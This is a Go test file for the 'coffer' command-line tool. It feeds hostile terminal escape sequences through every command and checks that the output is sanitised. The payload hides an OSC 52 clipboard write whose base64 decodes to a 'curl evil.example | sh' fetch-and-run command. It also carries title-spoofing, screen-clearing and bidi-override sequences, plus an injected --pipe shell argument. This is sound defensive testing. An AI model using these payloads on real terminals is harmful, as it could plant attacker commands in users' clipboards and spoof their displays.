package main

import (
	"bytes"
	"encoding/json"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"coffer/ui/sanitize"
)

// payload is every kind of sequence a terminal acts on: OSC 52 (writes
// the clipboard), OSC 0 (the title), CSI (clears the screen), DCS, the
// 8-bit C1 forms, bidi overrides and isolates, DEL, BEL, CR, BS, and
// invalid UTF-8.
const payload = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07\x1b]0;pwned\x07\x1b[2J\x1bP+q544e\x1b\\" +
	"\u009b31m\u009d0;pwned\u009c\u202eexe.txt\u2066\u2067\x7f\x08\r\xff"

// hostileRecord has payload in every field of the JSONL model.
func hostileRecord(i int) map[string]any {
	p := payload + fmt.Sprint(i)
	return map[string]any{
		"source":         "wa" + p,
		"conversation":   map[string]any{"id": "conv" + p, "title": "title" + p, "participants": []string{"part" + p}},
		"sender":         "sender" + p,
		"sender_id":      "sid" + p,
		"to":             []string{"to" + p},
		"time":           time.Date(2025, 3, 1, 9, i, 0, 0, time.UTC),
		"subject":        "subject" + p,
		"body":           "clipboardtest body" + p,
		"reply_to":       "reply" + p,
		"forwarded_from": "fwd" + p,
		"attachments":    []map[string]any{{"name": "att" + p + ".pdf", "type": "text/plain" + p, "content": []byte("x")}},
		"headers":        map[string]string{"X-Evil" + p: "value" + p},
		"provenance": map[string]any{"format": "fmt" + p, "file": "file" + p + ".txt", "position": "pos" + p,
			"original_id": "orig" + p, "timezone": "tz" + p},
	}
}

// ours is what coffer's own writer emits on a terminal: the emphasis of
// search matches and the progress bar's clear-line.
var ours = regexp.MustCompile(`\x1b\[1;4m|\x1b\[m|\r\x1b\[K`)

// checkOutput fails on any ESC, C0 other than newline and tab, DEL, C1,
// bidi control or invalid UTF-8 in out (after removing our own escapes
// when it went to a terminal).
func checkOutput(t *testing.T, what string, out []byte, terminal bool) {
	t.Helper()
	s := string(out)
	if terminal {
		s = ours.ReplaceAllString(s, "")
	}
	for i, r := range s {
		bad := r == 0x1b || (r < 0x20 && r != '\n' && r != '\t') || r == 0x7f || (r >= 0x80 && r <= 0x9f) ||
			(r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) || r == 0x200e || r == 0x200f || r == 0x061c ||
			(r == 0xfffd && !strings.HasPrefix(s[i:], "\uFFFD"))
		if bad {
			t.Errorf("%s: unsafe %U at byte %d: %q", what, r, i, s[max(i-40, 0):min(i+40, len(s))])
			return
		}
	}
}

// TestHostileOutput imports a record with a terminal payload in every
// field, from a file whose name is one too, and runs every command that
// prints anything of it, as text and as JSON, to a pipe and to a
// terminal: nothing unsafe may reach stdout or stderr.
func TestHostileOutput(t *testing.T) {
	t.Setenv("COFFER_STATE_DIR", t.TempDir())
	dir := t.TempDir()
	at := func(name string) string { return filepath.Join(dir, name) }
	var jsonl bytes.Buffer
	enc := json.NewEncoder(&jsonl)
	for i := range 3 {
		if err := enc.Encode(hostileRecord(i)); err != nil {
			t.Fatal(err)
		}
	}
	jsonl.WriteString(`{"source":"wa","conversation":{"id":"c"},"broken` + payload + "\n") // for --lenient's warning
	export := at("export" + payload + ".jsonl")
	if err := os.WriteFile(export, jsonl.Bytes(), 0o600); err != nil {
		t.Fatal(err)
	}
	t.Setenv("USER", "member"+payload) // names the member made by --identity-out
	v, key, aud := at("vault"), []string{"--identity", at("me.key")}, []string{"--identity", at("auditor.key")}

	commands := [][]string{
		{"init", v, "--identity-out", at("me.key"), "--auditor-key-out", at("auditor.key"), "--name", "vault" + payload},
		append([]string{"import", v, export}, key...),                      // fails: the bad line, quoted
		append([]string{"import", v, export, "--lenient"}, key...),         // warns, quoting it
		append([]string{"import", v, export, "--format", "jsonl"}, key...), // nothing new
		append([]string{"stats", v}, key...),
		append([]string{"stats", v, "--json"}, key...),
		append([]string{"search", v, "clipboardtest", "--facets"}, key...),
		append([]string{"search", v, "clipboardtest", "--json", "--facets"}, key...),
		append([]string{"search", v, "clipboardtest" + payload}, key...), // the query echoed
		append([]string{"search", v, "(" + payload}, key...),             // a parse error quoting it
		append([]string{"export", v}, key...),
		append([]string{"export", v, "-o", at("out" + payload + ".jsonl")}, key...),
		{"verify", v},
		append([]string{"compact", v}, key...),
		{"member", "list", v},
		append([]string{"member", "add", v, "--recipient", "age1" + payload, "--name", "eve" + payload}, key...),
		append([]string{"ingest-key", v, "--name", "gw" + payload, "-o", at("gw.key")}, key...),
		append([]string{"audit", "show", v}, aud...),
		append([]string{"audit", "show", v, "--json"}, aud...),
		append([]string{"audit", "show", v, "--csv"}, aud...),
		append([]string{"audit", "verify", v}, aud...),
		append([]string{"audit", "checkpoint", v}, aud...),
		{"help", "search"},
		{"nosuchcommand" + payload},
		append([]string{"stats", v + payload}, key...),
	}
	for _, terminal := range []bool{false, true} {
		for i, args := range commands {
			if i == 0 && terminal {
				continue // the vault exists
			}
			var out, errb bytes.Buffer
			e := &env{stdout: sanitize.NewWriter(&out, terminal, true), stderr: sanitize.NewWriter(&errb, terminal, true), now: time.Now}
			code := run(e, args)
			what := fmt.Sprintf("%s (terminal %v, exit %d)", strings.Join(args[:min(len(args), 3)], " "), terminal, code)
			checkOutput(t, what+" stdout", out.Bytes(), terminal)
			checkOutput(t, what+" stderr", errb.Bytes(), terminal)
			if i == 10 && terminal && (code != exitUsage || !strings.Contains(errb.String(), "refusing") || out.Len() > 0) {
				t.Errorf("export to a terminal: exit %d, stdout %d bytes, stderr %q; want a refusal", code, out.Len(), errb.String())
			}
			if i == 6 && !terminal && !strings.Contains(out.String(), "clipboardtest") {
				t.Fatalf("the search found nothing: the hostile records were not imported\n%s%s", out.String(), errb.String())
			}
		}
	}
	// Attachments: the list names them, a command's output and an error
	// quoting a NAME are neutralised like everything else.
	var found bytes.Buffer
	run(&env{stdout: sanitize.NewWriter(&found, false, false), stderr: sanitize.NewWriter(io.Discard, false, false), now: time.Now},
		append([]string{"search", v, "clipboardtest", "--json"}, key...))
	id := regexp.MustCompile(`"id":"([0-9a-f]{32})"`).FindStringSubmatch(found.String())
	if id == nil {
		t.Fatalf("no message id in %q", found.String())
	}
	for _, terminal := range []bool{false, true} {
		for _, args := range [][]string{
			{"attachment", v, id[1]},
			{"attachment", v, id[1], "#1", "--pipe", `cat; printf '\033]0;pwned\007\233\n'; printf '\033[2J' >&2`},
			{"attachment", v, id[1], "nope" + payload, "-o", at("nope")},
			{"attachment", v, id[1], "#1", "-o", at("saved" + payload)},
		} {
			var out, errb bytes.Buffer
			e := &env{stdout: sanitize.NewWriter(&out, terminal, true), stderr: sanitize.NewWriter(&errb, terminal, true), now: time.Now}
			code := run(e, append(args, key...))
			what := fmt.Sprintf("%s (terminal %v, exit %d)", strings.Join(args[:min(len(args), 4)], " "), terminal, code)
			checkOutput(t, what+" stdout", out.Bytes(), terminal)
			checkOutput(t, what+" stderr", errb.Bytes(), terminal)
			if len(args) == 3 && !strings.Contains(out.String(), "att") {
				t.Errorf("%s: no attachment listed: %q", what, out.String())
			}
		}
	}

	// The export kept every byte of the original (as \u escapes).
	b, err := os.ReadFile(at("out" + payload + ".jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	checkOutput(t, "exported file", b, false)
	if !bytes.Contains(b, []byte(`\u001b]52;c;`)) || !bytes.Contains(b, []byte(`\u009b31m`)) || !bytes.Contains(b, []byte(`\u202e`)) {
		t.Errorf("the export lost the payload: %.300s", b)
	}
}
